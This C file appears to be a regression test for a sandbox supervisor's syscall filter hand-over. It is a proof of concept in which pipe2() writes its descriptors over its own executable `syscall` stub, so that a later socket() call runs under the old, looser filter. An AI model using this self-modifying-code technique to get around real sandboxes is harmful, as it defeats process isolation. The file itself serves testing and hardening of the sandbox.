/* SPDX-License-Identifier: MIT */
/*
 * Attack of issue 17: the trigger call writes over its own `syscall`
 * instruction.  pipe2() is made from a writable `syscall; ret` stub, and
 * (--attack) its two descriptors are written over the stub's `0f 05`.
 * A hand-over at the trigger's exit stop looked for `0f 05` before rip,
 * found the descriptors, postponed itself to the next exit stop, and the
 * next call, socket(), ran in serving under init's filter.  At the next
 * entry stop, socket() is the call the new filter judges.
 */
#include <sys/mman.h>

#include "attack.h"

int main(int argc, char **argv)
{
	/* syscall; ret, at an offset that lets 8 bytes end on the `syscall`'s last byte. */
	static const unsigned char code[] = {0x0f, 0x05, 0xc3};
	unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
	                           MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	unsigned char *stub;
	long (*call)(long nr, long a1, long a2);
	int spare[2];
	int *fds;
	int s;

	if (page == MAP_FAILED)
		return 2;
	/*
	 * The stub takes nr in rdi; mov it to rax and the arguments down:
	 * mov rax, rdi; mov rdi, rsi; mov rsi, rdx; syscall; ret.
	 */
	stub = page + 64;
	memcpy(stub - 9,
	       (const unsigned char[]){0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6}, 9);
	memcpy(stub, code, sizeof(code));
	call = (long (*)(long, long, long))(void *)(stub - 9);
	s = socket(AF_INET, SOCK_STREAM, 0); /* init allows sockets */
	if (s < 0)
		return 2;
	close(s);
	/* The descriptors' 8 bytes end with the `syscall`'s 2: the `ret` after them survives. */
	fds = attacking(argc, argv) ? (int *)(void *)(stub - 6) : spare;
	if (call(SYS_pipe2, (long)fds, 0) != 0)
		return 2;
	if (attacking(argc, argv)) {
		payload("overwrite");
		return 0;
	}
	say("overwrite: serving\n");
	return 0;
}
